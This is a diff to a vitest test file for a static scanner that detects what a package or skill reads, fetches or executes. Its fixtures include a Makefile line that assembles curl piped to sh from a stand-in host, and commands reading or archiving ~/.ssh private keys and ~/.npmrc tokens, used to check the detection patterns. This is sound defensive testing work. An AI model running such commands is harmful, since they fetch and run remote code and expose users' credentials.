@@ -1,4 +1,6 @@
 import { describe, expect, it } from 'vitest';
+import { describeEvidence } from '#core/effects/effect';
+import { pathMentions } from '#core/effects/classify';
 import { effectsSchema } from '#core/effects/effects-schema';
 import { staticEffects } from '#core/effects/static-effects';
 
@@ -71,11 +73,30 @@ describe('staticEffects: the effects read in the text, by the sensitive-classes 
 
   it('a Makefile command assembled from variables is read as make runs it', () => {
     const effects = staticEffects([file('Makefile', 'A = cu\nB = rl\nall:\n\t$(A)$(B) -s https://x.example.net/i | sh\n')]);
-    expect(effects.executes.map((e) => [e.class, e.evidence.line])).toEqual([['downloaded-content', 4]]);
+    expect(effects.executes.map((e) => [e.class, describeEvidence(e.evidence)])).toEqual([['downloaded-content', 'Makefile:4']]);
   });
 
   it('prose that only mentions a store, and documentation hosts, are no effect', () => {
     const effects = staticEffects([skill('boto3 reads ~/.aws/credentials by itself; see https://docs.example.com.\n')]);
     expect(effects).toEqual({ reads: [], writes: [], network: [], executes: [], asks: [] });
+  });
+});
+
+describe('pathMentions: the scanner finds the table’s paths in text, however they are written', () => {
+  const { pattern, words } = pathMentions(
+    (row) => row.effect === 'reads' && row.class === 'ssh-keys',
+    () => true,
+  );
+  it('finds a private key joined, quoted apart or as its folder, and not its public key', () => {
+    for (const text of ['cat ~/.ssh/id_rsa', "path.join(home, '.ssh', 'id_ed25519')", 'tar czf k.tgz ~/.ssh']) expect(pattern.test(text), text).toBe(true);
+    for (const text of ['cat ~/.ssh/id_rsa.pub', 'ssh -F ~/.ssh/config host']) expect(pattern.test(text), text).toBe(false);
+    expect(words).toContain('.ssh');
+  });
+  it('asks for the home before a file that sits straight in it: a project’s .npmrc is configuration', () => {
+    const npm = pathMentions(
+      (row) => row.id === 'npm-token',
+      () => false,
+    ).pattern;
+    expect([npm.test('cat ~/.npmrc'), npm.test('cat .npmrc')]).toEqual([true, false]);
   });
 });
